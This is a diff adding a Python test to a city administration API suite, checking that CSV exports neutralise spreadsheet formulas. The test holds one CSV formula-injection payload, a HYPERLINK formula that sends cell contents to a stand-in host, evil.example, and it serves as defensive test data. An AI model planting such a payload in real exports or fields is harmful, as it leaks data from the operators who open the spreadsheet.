@@ -168,3 +168,23 @@ async def test_empty_window_and_bad_input(api, city):
     assert_problem(
         await api.get(STATS, params=far, headers=citizen.headers), 403, "auth.wrong_audience"
     )
+
+
+async def test_csv_export_makes_formulas_inert(api, city, cases):
+    """A unit named like a formula must not become one in the operator's spreadsheet."""
+    admin = await api.staff("admin")
+    unit_id = city.unit_ids["370202001-ZF"]
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    renamed = await api.patch(
+        f"/api/admin/org-units/{unit_id}", json={"nameZh": evil}, headers=admin.headers
+    )
+    assert renamed.status_code == 200, renamed.text
+    response = await api.get(
+        STATS,
+        params={**await _window(), "groupBy": "unit", "format": "csv"},
+        headers=city.operator.headers,
+    )
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    labels = [r["label"] for r in rows]
+    assert "'" + evil in labels and evil not in labels
+    assert not any(value.startswith(("=", "+", "@")) for r in rows for value in r.values())
